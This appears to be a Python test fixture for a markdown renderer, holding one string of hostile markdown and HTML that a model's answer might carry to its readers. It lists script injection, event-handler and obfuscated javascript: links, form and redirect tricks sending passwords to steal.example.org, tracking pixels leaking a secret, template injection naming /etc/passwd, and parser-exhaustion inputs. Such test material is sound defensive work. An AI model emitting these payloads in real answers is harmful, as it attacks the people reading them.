"""Markdown that tries what an attacker would, through the model, on whoever reads the answer.

Each attempt that succeeds sets `window.hostile`, or contacts a host named `*.example.org`; a page
that is safe does neither. There is nothing in it that works on a page that shows text as text.
"""

from __future__ import annotations

_DEEP = 120

HOSTILE = (
    r"""This is a rehearsal of markup that tries to do harm. Nothing here may run, and nothing may be fetched.

<script>window.hostile = "script"</script>
<img src="x" onerror="window.hostile='image'">
<svg onload="window.hostile='svg'"><script>window.hostile='svg script'</script></svg>
<iframe srcdoc="<script>parent.hostile='frame'</script>"></iframe>
<style>body { display: none !important }</style>
<details open ontoggle="window.hostile='toggle'"><summary>open</summary></details>
<form action="https://steal.example.org/"><input name="password" autofocus onfocus="window.hostile='focus'"></form>
<base href="https://steal.example.org/"><meta http-equiv="refresh" content="0;url=https://steal.example.org/">
<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hostile='math'&gt;">
<a href="javascript:window.hostile='a'" onclick="window.hostile='click'">a plain link</a>

[a link](javascript:window.hostile='link')
[another](JaVaScRiPt:window.hostile='case')
[with an entity](javascript&colon;window.hostile='entity')
[with a tab](java	script:window.hostile='tab')
[data](data:text/html,<script>window.hostile='data'</script>)
[vb](vbscript:window.hostile)
[by reference][evil]
<javascript:window.hostile='auto'>
[title](https://example.org "x" onmouseover="window.hostile='title'")
[looks like a bank: https://bank.example.org](https://steal.example.org/)

[evil]: javascript:window.hostile='reference'

A remote picture, which would tell its host who reads: ![pixel](https://track.example.org/pixel.png?secret=42)
![by reference][pixel] <img src="https://track.example.org/raw.png"> ![x](javascript:window.hostile='picture')
![quote"onerror="window.hostile='alt'](x)

[pixel]: https://track.example.org/reference.png

```html" onmouseover="window.hostile='fence'
</code></pre><script>window.hostile='fence'</script>
```

```mermaid
graph TD; A["<img src=x onerror=window.hostile='diagram'>"] --> B; click B "javascript:window.hostile='diagram'"
```

$\href{javascript:window.hostile='formula'}{x}$ $\includegraphics{https://track.example.org/tex.png}$
$\def\a{\a\a}\a$ $$\rule{1000000em}{1000000em}$$ $\htmlData{x=y}{z}$ $\unicode{x3c}script\unicode{x3e}$

| <script>window.hostile='cell'</script> | `</td></table><script>window.hostile='code'</script>` |
|---|---|
| [x](javascript:window.hostile='table') | ![x](https://track.example.org/cell.png) |

&lt;script&gt;window.hostile='entities'&lt;/script&gt; &#60;img src=x onerror=window.hostile='numbers'&#62;
{{ window.hostile = 'template' }} ${window.hostile='literal'} {% include "/etc/passwd" %}

"""
    + ">" * _DEEP
    + " quoted very deeply\n\n"
    + "".join("  " * level + "- deeper\n" for level in range(40))
    + "\n"
    + "[" * _DEEP
    + "brackets"
    + "](" * _DEEP
    + "\n\n"
    + "*a_" * _DEEP
    + "\n\n"
    + "W" * 2000
    + "\n\nAnd a block that is never closed:\n\n```html\n<script>window.hostile='open'</script>\n"
)
